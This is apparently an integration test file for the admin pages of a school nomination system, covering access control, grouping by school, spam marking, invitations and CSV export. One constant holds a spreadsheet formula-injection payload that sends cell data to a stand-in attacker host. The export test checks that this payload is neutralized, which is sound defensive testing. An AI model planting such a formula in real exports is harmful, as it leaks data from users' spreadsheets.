import { randomBytes } from 'node:crypto';
import { expect } from 'chai';
import { and, asc, eq } from 'drizzle-orm';
import { criteria, evidenceFiles, nominations, schoolInvitations, type Nomination } from '../../../models/schema.js';
import { nominationsForApplication } from '../../../server/services/nominations/groups.js';
import { nominationExportRows } from '../../../server/services/nominations/nomination-export.js';
import { startHarness, type Harness } from '../../helpers/harness.js';
import { createUser, signIn, createOpenCycle } from '../../helpers/factories.js';
import { csrfTokenFrom, linkIn, submitForm, readable } from '../../helpers/forms.js';
import { addSchool, fixtureBytes, startApplication } from '../../helpers/applicant.js';

type Agent = ReturnType<Harness['agent']>;

const LINCOLN = {
  schoolName: 'Lincoln H.S.',
  district: 'Portland Public Schools',
  city: 'Portland',
  state: 'OR',
  contactEmail: 'principal@lincoln.pps.example.org',
  reason: 'Lincoln opened its advanced courses to every student and the results show it.',
  nominatorName: 'Maria Parent',
  nominatorEmail: 'maria@example.com',
  relationship: 'parent',
};
const HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")';

/** Every request made by /nominate carries its token in the form action, as upload forms do. */
async function nominate(
  agent: Agent,
  fields: Record<string, string | string[]>,
  files: Array<{ name: string; as: string }> = [],
) {
  const page = await agent.get('/nominate');
  const token = csrfTokenFrom(page.text.replace(/\?_csrf=([^"]+)"/, ' name="_csrf" value="$1"'));
  let request = agent.post(`/nominate?_csrf=${encodeURIComponent(token)}`);
  for (const [name, value] of Object.entries(fields)) {
    for (const item of ([] as string[]).concat(value)) request = request.field(name, item);
  }
  for (const file of files) request = request.attach('files', fixtureBytes(file.name), file.as);
  const res = await request;
  expect(res.status, res.text).to.equal(303);
}

async function confirmFor(h: Harness, email: string, nth = 0) {
  await h.deliverMail();
  const mails = h.sink.messages.filter(
    (m) => m.to.includes(email) && m.subject.startsWith('Please confirm your nomination'),
  );
  const link = linkIn(mails[nth]!.text, '/nominations/confirm/');
  const res = await submitForm(h.agent(), link, link, {});
  expect(res.status).to.equal(200);
}

/** The counts shown in the table row (or detail page) of one school. */
function countsIn(html: string, schoolName: string) {
  const row = html.split('<tr>').find((r) => r.includes(`>${schoolName}</a>`));
  if (!row) throw new Error(`No row for ${schoolName}`);
  const count = (kind: string) => Number(new RegExp(`data-count="${kind}">(\\d+)<`).exec(row)?.[1]);
  return { confirmed: count('confirmed'), unconfirmed: count('unconfirmed'), spam: count('spam') };
}

function schoolsListed(html: string): string[] {
  return [...html.matchAll(/<td><a href="\/admin\/nominations\/groups\/[^"]+">([^<]+)<\/a>/g)].map((m) => m[1]!);
}

function groupHref(html: string, schoolName: string): string {
  const match = new RegExp(
    `href="(/admin/nominations/groups/[^"]+)">${schoolName.replace(/[.*+?^${}()|[\]\\]/g, '\\$&')}</a>`,
  ).exec(html);
  if (!match?.[1]) throw new Error(`No link to ${schoolName}`);
  return match[1];
}

describe('admins: nominations grouped by school, spam, invitations and the CSV export', () => {
  let h: Harness;
  let cycleId: number;
  let admin: Agent;
  let applicant: Agent;
  let mariaFirst: Nomination;
  let filePublicId: string;

  before(async () => {
    h = await startHarness();
    cycleId = await createOpenCycle(h.db, h.clock());
    const cycleCriteria = await h.db
      .select()
      .from(criteria)
      .where(eq(criteria.cycleId, cycleId))
      .orderBy(asc(criteria.position));
    await createUser(h.db, { email: 'admin@program.example.org', name: 'Ada Admin', roles: ['admin'] });
    await createUser(h.db, { email: 'maria@example.com', name: 'Maria Parent' });
    await createUser(h.db, { email: 'someone@elsewhere.example.net', roles: ['applicant', 'reviewer'] });

    const public_ = h.agent();
    await nominate(
      public_,
      { ...LINCOLN, criterionIds: [String(cycleCriteria[0]!.id), String(cycleCriteria[2]!.id)] },
      [{ name: 'sample.pdf', as: 'newsletter.pdf' }],
    );
    await confirmFor(h, 'maria@example.com', 0);
    await nominate(public_, {
      ...LINCOLN,
      schoolName: 'lincoln high school',
      city: 'PORTLAND',
      nominatorName: 'Sam Student',
      nominatorEmail: 'sam@example.com',
      relationship: 'student',
      reason: 'Teachers here know every student by name.',
    });
    await confirmFor(h, 'sam@example.com');
    // The same person twice counts once.
    await nominate(public_, { ...LINCOLN, reason: 'Still the best school in town.' });
    await confirmFor(h, 'maria@example.com', 1);
    await nominate(public_, { ...LINCOLN, nominatorName: 'Una Confirmed', nominatorEmail: 'una@example.com' });
    await nominate(public_, {
      ...LINCOLN,
      schoolName: 'Grant High',
      district: '',
      contactEmail: '',
      nominatorName: 'Pat Prankster',
      nominatorEmail: 'pat@example.com',
      relationship: 'community',
      reason: HYPERLINK,
    });
    await confirmFor(h, 'pat@example.com');
    await nominate(public_, {
      ...LINCOLN,
      schoolName: 'Vista Academy',
      city: 'Austin',
      state: 'TX',
      contactEmail: '',
      nominatorName: 'Lee Local',
      nominatorEmail: 'lee@example.com',
      reason: 'Vista, in Austin.',
    });
    await h.deliverMail();

    const [first] = await h.db
      .select()
      .from(nominations)
      .where(eq(nominations.nominatorEmail, 'maria@example.com'))
      .orderBy(asc(nominations.id));
    mariaFirst = first!;
    const [file] = await h.db.select().from(evidenceFiles).where(eq(evidenceFiles.nominationId, mariaFirst!.id));
    filePublicId = file!.publicId;

    admin = h.agent();
    await signIn(admin, 'admin@program.example.org');
    applicant = h.agent();
    await signIn(applicant, 'someone@elsewhere.example.net');
  });
  after(() => h.close());

  it('keeps every page, the CSV and the files to admins: others are refused, anonymous visitors sent to sign in', async () => {
    const group = `/admin/nominations/groups/${cycleId}/${encodeURIComponent(mariaFirst.matchKey)}`;
    const file = `/admin/nominations/${mariaFirst.id}/files/${filePublicId}`;
    const pages = [
      '/admin/nominations',
      '/admin/nominations?state=OR',
      '/admin/nominations.csv',
      group,
      '/admin/nominations/invite',
      file,
    ];
    const nominator = h.agent();
    await signIn(nominator, 'maria@example.com');
    for (const url of pages) {
      const anonymous = await h.agent().get(url);
      expect(anonymous.status, url).to.equal(303);
      expect(anonymous.headers.location, url).to.equal(`/login?next=${encodeURIComponent(url)}`);
      for (const [who, agent] of [
        ['applicant', applicant],
        ['nominator', nominator],
      ] as const) {
        const res = await agent.get(url);
        expect(res.status, `${who} ${url}`).to.equal(403);
        expect(res.text).to.contain('This page is for admins of the program');
        expect(res.text).not.to.contain('maria@example.com');
        expect(res.headers['content-disposition'], `${who} ${url}`).to.equal(undefined);
      }
    }
    // Posts from a signed-in non-admin with a valid token are refused for their role, not the token.
    const page = await applicant.get('/nominate');
    const token = csrfTokenFrom(page.text.replace(/\?_csrf=([^"]+)"/, ' name="_csrf" value="$1"'));
    const posts: Array<[string, Record<string, string>]> = [
      [`/admin/nominations/${mariaFirst.id}/spam`, {}],
      [`/admin/nominations/${mariaFirst.id}/unspam`, {}],
      [
        '/admin/nominations/invite',
        { cycleId: String(cycleId), schoolName: 'X', city: 'Y', state: 'OR', email: 'x@example.org' },
      ],
    ];
    for (const [url, fields] of posts) {
      const refused = await applicant
        .post(url)
        .type('form')
        .send({ ...fields, _csrf: token });
      expect(refused.status, url).to.equal(403);
      expect(refused.text).to.contain('This page is for admins of the program');
      expect((await h.agent().post(url).type('form').send(fields)).status, `anonymous ${url}`).to.equal(403);
    }
    expect(await h.db.select().from(nominations).where(eq(nominations.status, 'spam'))).to.have.length(0);
    expect(await h.db.select().from(schoolInvitations)).to.have.length(1);
  });

  it('lists one row per school with its distinct confirmed nominators, however the name was written', async () => {
    const res = await admin.get('/admin/nominations');
    expect(res.status).to.equal(200);
    expect(schoolsListed(res.text)).to.deep.equal(['Lincoln H.S.', 'Grant High', 'Vista Academy']);
    expect(countsIn(res.text, 'Lincoln H.S.')).to.deep.equal({ confirmed: 2, unconfirmed: 1, spam: 0 });
    expect(countsIn(res.text, 'Grant High')).to.deep.equal({ confirmed: 1, unconfirmed: 0, spam: 0 });
    expect(countsIn(res.text, 'Vista Academy')).to.deep.equal({ confirmed: 0, unconfirmed: 1, spam: 0 });
    expect(res.text).to.contain('3 schools.');
    const lincolnRow = res.text.split('<tr>').find((r) => r.includes('>Lincoln H.S.</a>'))!;
    expect(lincolnRow).to.contain('November 22, 2026');
    expect(lincolnRow).to.contain('automatically');
    expect(res.text.split('<tr>').find((r) => r.includes('>Grant High</a>'))).to.contain('Not invited');
  });

  it('filters by cycle, by the status of any nomination, and by state', async () => {
    expect(schoolsListed((await admin.get('/admin/nominations?state=TX')).text)).to.deep.equal(['Vista Academy']);
    expect(schoolsListed((await admin.get('/admin/nominations?status=unconfirmed')).text)).to.deep.equal([
      'Lincoln H.S.',
      'Vista Academy',
    ]);
    const confirmedInOregon = await admin.get('/admin/nominations?status=confirmed&state=OR');
    expect(schoolsListed(confirmedInOregon.text)).to.deep.equal(['Lincoln H.S.', 'Grant High']);
    expect(
      countsIn(confirmedInOregon.text, 'Lincoln H.S.').unconfirmed,
      'the filter picks groups; their counts stay whole',
    ).to.equal(1);
    expect(readable(confirmedInOregon.text)).to.contain('href="/admin/nominations.csv?status=confirmed&state=OR"');
    expect(schoolsListed((await admin.get(`/admin/nominations?cycle=${cycleId}`)).text)).to.have.length(3);
    const otherCycle = await admin.get(`/admin/nominations?cycle=${cycleId + 1000}`);
    expect(otherCycle.text).to.contain('No nominations match.');
    expect(
      schoolsListed((await admin.get('/admin/nominations?status=nonsense&state=ZZ')).text),
      'unknown filter values are ignored',
    ).to.have.length(3);
  });

  it('pages through many schools, 50 at a time, most nominated first', async () => {
    const now = h.clock();
    const row = (i: number, email: string) => ({
      cycleId,
      schoolName: `Wyoming School ${String(i).padStart(2, '0')}`,
      city: 'Casper',
      state: 'WY',
      matchKey: `wyoming ${i}|casper|WY`,
      nominatorName: 'Bulk',
      nominatorEmail: email,
      relationship: 'community' as const,
      reason: 'Bulk.',
      status: 'confirmed' as const,
      confirmTokenHash: randomBytes(16).toString('hex'),
      confirmExpiresAt: now,
      confirmedAt: now,
    });
    await h.db
      .insert(nominations)
      .values([...Array.from({ length: 60 }, (_, i) => row(i, `bulk${i}@example.com`)), row(59, 'second@example.com')]);
    const first = await admin.get('/admin/nominations?state=WY');
    const firstNames = schoolsListed(first.text);
    expect(firstNames).to.have.length(50);
    expect(firstNames[0], 'two confirmed nominators come first').to.equal('Wyoming School 59');
    expect(firstNames.slice(1, 3)).to.deep.equal(['Wyoming School 00', 'Wyoming School 01']);
    expect(first.text).to.contain('60 schools, 50 a page.');
    expect(readable(first.text)).to.contain('href="/admin/nominations?state=WY&page=2" rel="next"');
    expect(first.text).not.to.contain('rel="prev"');
    const second = await admin.get('/admin/nominations?state=WY&page=2');
    const secondNames = schoolsListed(second.text);
    expect(secondNames).to.have.length(10);
    expect(new Set([...firstNames, ...secondNames]).size).to.equal(60);
    expect(readable(second.text)).to.contain('href="/admin/nominations?state=WY&page=1" rel="prev"');
    expect(second.text).not.to.contain('rel="next"');
  });

  it('shows a school with every nomination: nominator, relationship, reason, criteria and files', async () => {
    const list = await admin.get('/admin/nominations?state=OR');
    const href = groupHref(list.text, 'Lincoln H.S.');
    expect(href).to.equal(`/admin/nominations/groups/${cycleId}/${encodeURIComponent('lincoln|portland|OR')}`);
    const page = await admin.get(href);
    expect(page.status).to.equal(200);
    for (const text of [
      'Lincoln opened its advanced courses to every student',
      'Teachers here know every student by name.',
      'Still the best school in town.',
      'maria@example.com',
      'sam@example.com',
      'una@example.com',
      'Student or former student',
      'Not confirmed yet',
      'lincoln high school',
      '>newsletter.pdf</a>',
      `/admin/nominations/${mariaFirst.id}/files/${filePublicId}`,
      'principal@lincoln.pps.example.org',
    ]) {
      expect(page.text).to.contain(text);
    }
    const cycleCriteria = await h.db
      .select()
      .from(criteria)
      .where(eq(criteria.cycleId, cycleId))
      .orderBy(asc(criteria.position));
    expect(readable(page.text)).to.contain(`<li>${cycleCriteria[0]!.title}</li><li>${cycleCriteria[2]!.title}</li>`);
    expect(page.text, 'already invited: no invitation form').not.to.contain('Send the invitation');
    expect((await admin.get(`/admin/nominations/groups/${cycleId}/nobody%7Cnowhere%7COR`)).status).to.equal(404);
    expect(
      (await admin.get(`/admin/nominations/groups/abc/${encodeURIComponent('lincoln|portland|OR')}`)).status,
    ).to.equal(404);

    const download = await admin.get(`/admin/nominations/${mariaFirst.id}/files/${filePublicId}`).buffer(true);
    expect(download.status).to.equal(200);
    expect(download.headers['content-disposition']).to.equal('attachment; filename=newsletter.pdf');
    expect(download.headers['x-content-type-options']).to.equal('nosniff');
    expect(Buffer.compare(download.body as Buffer, fixtureBytes('sample.pdf'))).to.equal(0);
    const otherNomination = await admin.get(`/admin/nominations/${mariaFirst.id + 1}/files/${filePublicId}`);
    expect(otherNomination.status, 'a file is reached only through its own nomination').to.equal(404);
    expect((await admin.get(`/admin/nominations/${mariaFirst.id}/files/not-a-uuid`)).status).to.equal(404);
  });

  it('invites a nominated school by hand exactly once, and says so when it was invited already', async () => {
    const list = await admin.get('/admin/nominations');
    const href = groupHref(list.text, 'Grant High');
    const badEmail = await submitForm(admin, href, '/admin/nominations/invite', {
      cycleId: String(cycleId),
      matchKey: 'grant|portland|OR',
      email: 'not an address',
    });
    expect(badEmail.status).to.equal(422);
    expect(badEmail.text).to.contain('There is a problem');
    expect(badEmail.text).to.contain('<a href="#email">Enter the school contact');
    expect(badEmail.text).to.contain('value="not an address"');

    const sent = await submitForm(admin, href, '/admin/nominations/invite', {
      cycleId: String(cycleId),
      matchKey: 'grant|portland|OR',
      email: 'Head@Grant.example.org',
    });
    expect(sent.status).to.equal(303);
    expect(sent.headers.location).to.equal(href);
    const after = await admin.get(href);
    expect(after.text).to.contain('Grant High is invited to apply. We e-mailed head@grant.example.org.');
    expect(after.text).to.contain('by Ada Admin, to head@grant.example.org');
    await h.deliverMail();
    const invitations = h.sink.messages.filter((m) => m.to.includes('head@grant.example.org'));
    expect(invitations).to.have.length(1);
    expect(invitations[0]!.subject).to.match(/^Grant High is invited to apply to /);
    expect(invitations[0]!.text).to.contain('1 member of your community nominated Grant High');

    // The form is gone once invited, but a stale page can still post it.
    const again = await admin
      .post('/admin/nominations/invite')
      .type('form')
      .send({
        _csrf: csrfTokenFrom(after.text),
        cycleId: String(cycleId),
        matchKey: 'grant|portland|OR',
        email: 'other@grant.example.org',
      });
    expect(again.status).to.equal(303);
    const told = await admin.get(again.headers.location!);
    expect(told.text).to.contain(
      'Grant High was already invited by Ada Admin on November 22, 2026 (to head@grant.example.org). No new e-mail was sent',
    );
    const lincoln = await admin
      .post('/admin/nominations/invite')
      .type('form')
      .send({
        _csrf: csrfTokenFrom(after.text),
        cycleId: String(cycleId),
        matchKey: 'lincoln|portland|OR',
        email: 'x@lincoln.example.org',
      });
    // An automatic invitation nobody acted on went to an address a nominator typed: the admin's
    // own invitation replaces it.
    expect((await admin.get(lincoln.headers.location!)).text).to.contain(
      'Lincoln H.S. is invited to apply. We e-mailed x@lincoln.example.org.',
    );
    await h.deliverMail();
    expect(h.sink.messages.filter((m) => /grant\.example|x@lincoln/.test(m.to.join()))).to.have.length(2);
  });

  it('invites a school no one nominated, typed by the admin, once however it is spelled', async () => {
    const missing = await submitForm(admin, '/admin/nominations/invite', '/admin/nominations/invite', {
      cycleId: String(cycleId),
      schoolName: '',
      city: 'Seattle',
      state: '',
      email: 'x',
    });
    expect(missing.status).to.equal(422);
    for (const text of [
      '<a href="#schoolName">Enter the school',
      '<a href="#state">Choose the state.',
      '<a href="#email">Enter the school contact',
      'value="Seattle"',
    ]) {
      expect(missing.text).to.contain(text);
    }
    const sent = await submitForm(admin, '/admin/nominations/invite', '/admin/nominations/invite', {
      cycleId: String(cycleId),
      schoolName: 'Roosevelt High School',
      city: 'Seattle',
      state: 'WA',
      email: 'office@roosevelt.example.org',
    });
    expect(sent.status).to.equal(303);
    expect((await admin.get(sent.headers.location!)).text).to.contain(
      'Roosevelt High School is invited to apply. We e-mailed office@roosevelt.example.org.',
    );
    const again = await submitForm(admin, '/admin/nominations/invite', '/admin/nominations/invite', {
      cycleId: String(cycleId),
      schoolName: 'roosevelt h.s.',
      city: 'SEATTLE',
      state: 'wa',
      email: 'office@roosevelt.example.org',
    });
    expect((await admin.get(again.headers.location!)).text).to.contain(
      'roosevelt h.s. was already invited by Ada Admin',
    );
    await h.deliverMail();
    const mails = h.sink.messages.filter((m) => m.to.includes('office@roosevelt.example.org'));
    expect(mails).to.have.length(1);
    expect(mails[0]!.text).to.contain('The program invites Roosevelt High School to apply');
  });

  it('takes a spam nomination out of the counts and off the application, and can put it back', async () => {
    const principal = h.agent();
    await createUser(h.db, { email: 'pat.principal@lincoln.pps.example.org' });
    await signIn(principal, 'pat.principal@lincoln.pps.example.org');
    const applicationId = await startApplication(principal, await addSchool(principal), cycleId);
    expect((await nominationsForApplication(h.db, applicationId)).count).to.equal(2);

    const [sam] = await h.db.select().from(nominations).where(eq(nominations.nominatorEmail, 'sam@example.com'));
    expect(sam!.applicationId).to.equal(applicationId);
    const list = await admin.get('/admin/nominations?state=OR');
    expect(schoolsListed(list.text)[0], 'the profile name once the school joined').to.equal('Lincoln High School');
    const href = groupHref(list.text, 'Lincoln High School');
    expect(list.text).to.contain(`<a href="/applications/${applicationId}">No. ${applicationId}</a>`);
    const marked = await submitForm(admin, href, `/admin/nominations/${sam!.id}/spam`, {});
    expect(marked.status).to.equal(303);
    expect(marked.headers.location).to.equal(href);
    const page = await admin.get(href);
    expect(page.text).to.contain('The nomination by Sam Student is marked as spam. It no longer counts.');
    expect(page.text).to.contain('Marked by Ada Admin');
    expect(countsIn((await admin.get('/admin/nominations?state=OR')).text, 'Lincoln High School')).to.deep.equal({
      confirmed: 1,
      unconfirmed: 1,
      spam: 1,
    });
    const [spam] = await h.db.select().from(nominations).where(eq(nominations.id, sam!.id));
    expect(spam).to.include({ status: 'spam', applicationId: null });
    const beside = await nominationsForApplication(h.db, applicationId);
    expect(beside.count).to.equal(1);
    expect(beside.nominations.map((x) => x.nominatorName)).to.deep.equal(['Maria Parent', 'Maria Parent']);
    expect(schoolsListed((await admin.get('/admin/nominations?status=spam')).text)).to.deep.equal([
      'Lincoln High School',
    ]);

    const unmarked = await submitForm(admin, href, `/admin/nominations/${sam!.id}/unspam`, {});
    expect(unmarked.status).to.equal(303);
    const [back] = await h.db.select().from(nominations).where(eq(nominations.id, sam!.id));
    expect(back).to.include({ status: 'confirmed', applicationId, markedSpamBy: null });
    expect((await nominationsForApplication(h.db, applicationId)).count).to.equal(2);
    expect(
      (
        await admin
          .post('/admin/nominations/999999/spam')
          .type('form')
          .send({ _csrf: csrfTokenFrom(page.text) })
      ).status,
    ).to.equal(404);
  });

  it('renders the nominations beside the application: "Nominated by N people" with reasons and file links', async () => {
    const [row] = await h.db
      .select({ applicationId: nominations.applicationId })
      .from(nominations)
      .where(and(eq(nominations.nominatorEmail, 'sam@example.com')));
    const data = await nominationsForApplication(h.db, row!.applicationId!);
    const html = await new Promise<string>((resolve, reject) =>
      h.app.render('partials/application-nominations', { nominations: data, layout: false }, (error, out) =>
        error ? reject(error) : resolve(out),
      ),
    );
    expect(html).to.contain('Nominated by 2 people');
    expect(html).to.contain('Teachers here know every student by name.');
    expect(html).to.match(
      new RegExp(`href="/admin/nominations/${mariaFirst.id}/files/${filePublicId}/view"[^>]*>newsletter\\.pdf</a>`),
    );
    expect(html).to.contain(`href="/admin/nominations/${mariaFirst.id}/files/${filePublicId}" download`);
    expect(html, 'nominators’ addresses stay with the admins').not.to.contain('maria@example.com');
    expect(html).not.to.contain('una@example.com');
  });

  it('exports every matching nomination as CSV, formulas neutralized', async () => {
    const res = await admin
      .get('/admin/nominations.csv?state=OR')
      .buffer(true)
      .parse((response, done) => {
        const chunks: Buffer[] = [];
        response.on('data', (c: Buffer) => chunks.push(c));
        response.on('end', () => done(null, Buffer.concat(chunks).toString('utf8')));
      });
    expect(res.status).to.equal(200);
    expect(res.headers['content-type']).to.equal('text/csv; charset=utf-8');
    expect(res.headers['content-disposition']).to.equal('attachment; filename=nominations-2026-11-22.csv');
    const text = res.body as string;
    const lines = text.replace(/^\uFEFF/, '').split('\r\n');
    expect(lines[0]).to.equal(
      'id,cycle,status,school,district,city,state,nominator name,nominator e-mail,relationship,criteria,reason,confirmed at,application id',
    );
    expect(lines.filter((l) => /^\d+,/.test(l))).to.have.length(5);
    const grant = lines.find((l) => l.includes('pat@example.com'))!;
    expect(grant).to.contain(`,"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Click for details"")",`);
    expect(grant).not.to.match(/,=HYPERLINK/);
    const sam = lines.find((l) => l.includes('sam@example.com'))!;
    expect(sam).to.match(
      /,confirmed,Lincoln High School,Portland Public Schools,Portland,OR,Sam Student,sam@example.com,Student or former student,,Teachers here know every student by name\.,2026-11-22T12:00:00\.000Z,\d+$/,
    );
    const maria = lines.find((l) => l.includes('Lincoln opened'))!;
    const cycleCriteria = await h.db
      .select()
      .from(criteria)
      .where(eq(criteria.cycleId, cycleId))
      .orderBy(asc(criteria.position));
    expect(maria).to.contain(`${cycleCriteria[0]!.title}; ${cycleCriteria[2]!.title}`);

    const tx = await admin.get('/admin/nominations.csv?state=TX&status=unconfirmed').buffer(true);
    expect(
      String(tx.text)
        .split('\r\n')
        .filter((l) => /^\d+,/.test(l)),
    ).to.have.length(1);
    expect(String(tx.text)).to.contain('lee@example.com');

    // Batches join seamlessly: read 7 at a time, the same rows come out as in one go.
    const all: unknown[][] = [];
    for await (const r of nominationExportRows(h.db, {})) all.push(r);
    const batched: unknown[][] = [];
    for await (const r of nominationExportRows(h.db, {}, 7)) batched.push(r);
    expect(all).to.have.length(67);
    expect(batched).to.deep.equal(all);
  });
});
